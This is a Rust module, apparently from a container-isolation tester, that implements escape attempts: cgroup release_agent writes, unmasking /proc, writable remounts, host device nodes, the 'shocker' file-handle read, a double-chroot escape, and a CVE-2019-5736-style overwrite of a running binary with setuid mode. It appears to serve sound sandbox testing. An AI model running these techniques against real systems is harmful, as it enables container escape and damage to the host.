//! Attempts on files: the host's settings, devices, mounts and volumes.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::{FileTypeExt as _, MetadataExt as _, PermissionsExt as _};
use std::path::Path;

use crate::sys;
use crate::{Outcome, number, refused};

pub(crate) fn attempt(name: &str, arguments: &[&str]) -> Option<Outcome> {
    Some(match (name, arguments) {
        ("write-back", [path]) => write_back(path),
        ("open-for-writing", [path]) => OpenOptions::new()
            .write(true)
            .open(path)
            .map(|_| "it opened".into()),
        ("read", [path]) => read(path),
        ("read-canary", [path, content]) => read_canary(path, content),
        ("list", [path]) => list(path),
        ("create", [path]) => File::create_new(path).map(|_| "it was made".into()),
        ("make-directory", [path]) => fs::create_dir(path).map(|()| "it was made".into()),
        ("append", [path, text]) => append(path, text),
        ("change-null-device", []) => change_null_device(),
        ("mount-tmpfs", []) => sys::mount("tmpfs", "/mnt", "tmpfs", 0, "").map(|()| "mounted on /mnt".into()),
        ("mount-bind", []) => bind(),
        ("mount-overlay", []) => overlay(),
        ("mount-proc", []) => mount_proc(),
        ("mount-sysfs", []) => mount_sysfs(),
        ("fsopen", []) => sys::fsopen("tmpfs").map(|_| "a file system context".into()),
        ("open-tree", []) => sys::clone_tree("/").map(|_| "a copy of the root's mount".into()),
        ("unmask", [path]) => sys::unmount(path).and_then(|()| read(path)),
        ("remount-writable", [path]) => remount(path),
        ("mount-setattr-writable", [path]) => {
            sys::make_writable(path).and_then(|()| append(&inside(path), "x"))
        }
        ("release-agent", [controller]) => release_agent(controller),
        ("block-device", [major, minor]) => device("block", major, minor),
        ("character-device", [major, minor]) => device("character", major, minor),
        ("open-device", [path]) => open_device(path),
        ("devices", []) => devices(),
        ("file-handle", [handle, mount, content]) => file_handle(handle, mount, content),
        ("leave-chroot", [path, content]) => leave_chroot(path, content),
        ("make-handle", [path]) => make_handle(path),
        _ => return None,
    })
}

fn inside(directory: &str) -> String {
    format!("{directory}/canary")
}

fn append(path: &str, text: &str) -> Outcome {
    OpenOptions::new()
        .append(true)
        .open(path)?
        .write_all(text.as_bytes())?;
    Ok("written".to_owned())
}

/// Writes into a kernel setting what is there already.
fn write_back(path: &str) -> Outcome {
    let value = fs::read(path)?;
    OpenOptions::new().write(true).open(path)?.write_all(&value)?;
    Ok(format!("wrote `{}`", String::from_utf8_lossy(&value).trim()))
}

fn read(path: &str) -> Outcome {
    let mut bytes = [0; 512];
    match File::open(path)?.read(&mut bytes)? {
        0 => refused("it is empty"),
        length => Ok(format!("{length} bytes")),
    }
}

fn read_canary(path: &str, content: &str) -> Outcome {
    let found = fs::read(path)?;
    let found = String::from_utf8_lossy(&found);
    if found.contains(content) {
        Ok("the host's file was read".into())
    } else {
        refused("another file")
    }
}

fn list(path: &str) -> Outcome {
    match fs::read_dir(path)?.count() {
        0 => refused("it is empty"),
        count => Ok(format!("{count} entries")),
    }
}

/// Gives `/dev/null`, which is the host's, the mode that it has: the host sees its time of change move.
fn change_null_device() -> Outcome {
    let status = fs::metadata("/dev/null")?;
    if !status.file_type().is_char_device() {
        return refused("no device");
    }
    fs::set_permissions("/dev/null", fs::Permissions::from_mode(status.mode()))?;
    Ok(format!("mode {:o}", status.mode()))
}

fn bind() -> Outcome {
    sys::mount("/proc", "/mnt", "none", libc::MS_BIND | libc::MS_REC, "")?;
    if Path::new("/mnt/self").exists() {
        Ok("/proc on /mnt".into())
    } else {
        refused("nothing there")
    }
}

fn overlay() -> Outcome {
    sys::mount("tmpfs", "/mnt", "tmpfs", 0, "")?;
    for name in ["lower", "upper", "work", "merged"] {
        fs::create_dir(format!("/mnt/{name}"))?;
    }
    let options = "lowerdir=/mnt/lower,upperdir=/mnt/upper,workdir=/mnt/work";
    sys::mount("overlay", "/mnt/merged", "overlay", 0, options)?;
    Ok("on /mnt/merged".into())
}

/// A `/proc` without the masks.
fn mount_proc() -> Outcome {
    sys::mount("proc", "/mnt", "proc", 0, "")?;
    read("/mnt/interrupts")
}

fn mount_sysfs() -> Outcome {
    sys::mount("sysfs", "/mnt", "sysfs", 0, "")?;
    list("/mnt/firmware")
}

fn remount(path: &str) -> Outcome {
    sys::mount("none", path, "none", libc::MS_REMOUNT | libc::MS_BIND, "")?;
    append(&inside(path), "x")
}

fn release_agent(controller: &str) -> Outcome {
    sys::mount("cgroup", "/mnt", "cgroup", 0, controller)?;
    write_back("/mnt/release_agent")
}

/// Makes a device node where the file system allows it and reads from it.
fn device(kind: &str, major: &str, minor: &str) -> Outcome {
    let kind = if kind == "block" {
        libc::S_IFBLK
    } else {
        libc::S_IFCHR
    };
    let (major, minor) = (number(major)?, number(minor)?);
    let mut last = refused("no place for it");
    for path in ["/dev/node", "/tmp/node", "/node"] {
        last = sys::make_node(path, kind, major, minor).and_then(|()| open_device(path));
        if last.is_ok() {
            return last;
        }
    }
    last
}

/// The names of all device nodes in `/dev`.
fn devices() -> Outcome {
    let mut names = Vec::new();
    for entry in fs::read_dir("/dev")? {
        let entry = entry?;
        // A node may be mounted over an ordinary file.
        let Ok(status) = fs::metadata(entry.path()) else {
            continue;
        };
        let kind = status.file_type();
        if kind.is_char_device() || kind.is_block_device() {
            names.push(entry.file_name().to_string_lossy().into_owned());
        }
    }
    names.sort();
    Ok(names.join(" "))
}

fn open_device(path: &str) -> Outcome {
    let mut device = File::open(path)?;
    let kind = device.metadata()?.file_type();
    if !kind.is_block_device() && !kind.is_char_device() {
        return refused("no device");
    }
    let mut byte = [0u8; 512];
    match device.read(&mut byte) {
        Ok(length) => Ok(format!("{length} bytes of the host's device")),
        // The kernel's log answers so to a buffer that a line does not fit into.
        Err(error) if error.raw_os_error() == Some(libc::EINVAL) => Ok("the host's device opened".into()),
        Err(error) => Err(error),
    }
}

/// A file outside of the volume, by a handle within the volume's file system (the "shocker").
fn file_handle(handle: &str, mount: &str, content: &str) -> Outcome {
    let (kind, bytes) = handle.split_once(':').ok_or(io::ErrorKind::InvalidInput)?;
    let digits: Vec<u8> = bytes.bytes().collect();
    let bytes = digits
        .chunks(2)
        .map(|pair| u8::from_str_radix(&String::from_utf8_lossy(pair), 16).or_else(|_| refused("no handle")))
        .collect::<io::Result<Vec<u8>>>()?;
    let handle = sys::Handle {
        kind: number(kind)?,
        bytes,
    };
    let mut found = String::new();
    sys::open_by_handle(&File::open(mount)?, &handle)?.read_to_string(&mut found)?;
    if found.contains(content) {
        Ok("the host's file was read".into())
    } else {
        refused("another file")
    }
}

fn make_handle(path: &str) -> Outcome {
    use std::fmt::Write as _;
    let handle = sys::handle_of(path)?;
    let mut text = format!("{}:", handle.kind);
    for byte in handle.bytes {
        let _ = write!(text, "{byte:02x}");
    }
    Ok(text)
}

/// The oldest way out of a chroot: another one below a working directory that stays behind.
fn leave_chroot(path: &str, content: &str) -> Outcome {
    fs::create_dir_all("/tmp/deeper")?;
    sys::chroot("/tmp/deeper")?;
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    sys::chroot(".")?;
    read_canary(path, content)
}

/// Changes the file that process `pid` runs: its mode, which works at any time, and then its content, which works once
/// nothing runs it any more (CVE-2019-5736).
pub(crate) fn overwrite_program(pid: i32) -> Outcome {
    let program = File::open(format!("/proc/{pid}/exe"))?;
    let again = format!("/proc/self/fd/{}", program.as_raw_fd());
    let mode = fs::set_permissions(&again, fs::Permissions::from_mode(0o4777));
    match OpenOptions::new()
        .write(true)
        .open(&again)
        .and_then(|mut file| file.write_all(b"overwritten"))
    {
        Ok(()) => Ok("its program was overwritten".into()),
        Err(_) if mode.is_ok() => Ok("its program has another mode".into()),
        Err(error) => Err(error),
    }
}
